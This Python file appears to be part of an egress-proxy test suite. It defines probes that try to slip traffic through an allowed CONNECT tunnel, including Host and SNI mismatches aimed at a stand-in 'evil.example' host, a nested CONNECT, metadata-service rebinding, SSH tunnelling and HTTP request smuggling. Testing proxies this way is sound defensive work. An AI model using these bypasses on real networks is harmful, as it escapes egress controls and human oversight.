"""Lines 3 and 4: an allowed CONNECT, and something else inside."""

from __future__ import annotations

from glovebox.drill.scanner import Scanner, attempt, request

_WITNESS = "only a witness at the far end can tell that what went on was harmless"


def _sts(scanner: Scanner) -> str:
    return f"https://{scanner.allowed}/?Action=GetCallerIdentity&Version=2011-06-15"


@attempt(3, "another name in the TLS hello and in Host than in CONNECT")
def other_name(scanner: Scanner) -> str:
    evil = f"{scanner.marker}.evil.example"
    return scanner.inside(request("GET", f"https://{evil}/{scanner.marker}"), name=evil)


@attempt(3, "another Host inside an allowed tunnel")
def other_host(scanner: Scanner) -> str:
    return scanner.inside(request("GET", f"https://{scanner.marker}.evil.example/{scanner.marker}"))


@attempt(3, "an absolute address inside an allowed tunnel")
def absolute(scanner: Scanner) -> str:
    head = f"GET https://{scanner.marker}.evil.example/ HTTP/1.1\r\nHost: {scanner.allowed}\r\n\r\n"
    return scanner.inside(head.encode())


@attempt(3, "a CONNECT inside TLS")
def nested(scanner: Scanner) -> str:
    head = (
        f"CONNECT {scanner.marker}.evil.example:443 HTTP/1.1\r\nHost: {scanner.marker}.evil.example\r\n\r\n"
    )
    return scanner.inside(head.encode())


@attempt(3, "two Host headers")
def two_hosts(scanner: Scanner) -> str:
    data = scanner.signed("GET", _sts(scanner), "sts")
    return scanner.inside(data.replace(b"\r\n", f"\r\nHost: {scanner.marker}.evil.example\r\n".encode(), 1))


@attempt(
    23,
    "an allowed name that leads to the metadata service",
    lab_only="what Amazon's names lead to is Amazon's to say",
)
def rebound(scanner: Scanner) -> str:
    """Signed as it should be, so that only the address is wrong."""
    host = f"kms.{scanner.brief.region}.amazonaws.com"
    data = scanner.signed("GET", f"https://{host}/{scanner.marker}", "kms")
    return scanner.inside(data, host=host)


@attempt(4, "an upgrade to a WebSocket")
def web_socket(scanner: Scanner) -> str:
    url = f"https://{scanner.allowed}/{scanner.marker}"
    return scanner.inside(request("GET", url, connection="Upgrade", upgrade="websocket"))


@attempt(4, "SSH instead of TLS in an allowed tunnel", lab_only=_WITNESS)
def other_protocol(scanner: Scanner) -> str:
    said, line = scanner.tunnel(f"{scanner.allowed}:443")
    with line:
        return f"{said}; then {scanner.ask(line, f'SSH-2.0-{scanner.marker}'.encode() + bytes(2))[:60]!r}"


@attempt(4, "a second request smuggled behind two lengths")
def smuggled_request(scanner: Scanner) -> str:
    """One reader ends the body at the chunk of length 0, another reads on to the announced length."""
    hidden = f"GET /{scanner.marker} HTTP/1.1\r\nHost: {scanner.allowed}\r\n\r\n".encode()
    body = b"0\r\n\r\n" + hidden
    data = scanner.signed("POST", f"https://{scanner.allowed}/", "sts", body=body)
    both = f"\r\ntransfer-encoding: chunked\r\ncontent-length: {len(body)}\r\n".encode()
    return scanner.inside(data.replace(b"\r\n", both, 1))


@attempt(4, "two Authorization headers, ours first", lab_only=_WITNESS)
def two_authorizations(scanner: Scanner) -> str:
    return scanner.inside(_twice(scanner, ours_first=True))


@attempt(4, "two Authorization headers, the attacker's first")
def two_authorizations_reversed(scanner: Scanner) -> str:
    return scanner.inside(_twice(scanner, ours_first=False))


def _twice(scanner: Scanner, *, ours_first: bool) -> bytes:
    """One request with both signatures: where both go on, the other account's log has it."""
    brief = scanner.brief
    both = [
        scanner.signed("GET", _sts(scanner), "sts", key=key)
        for key in ((brief.key, brief.own_key) if ours_first else (brief.own_key, brief.key))
    ]
    second = next(line for line in both[1].split(b"\r\n") if line.startswith(b"authorization:"))
    head, end, body = both[0].partition(b"\r\n\r\n")
    return head + b"\r\n" + second + end + body
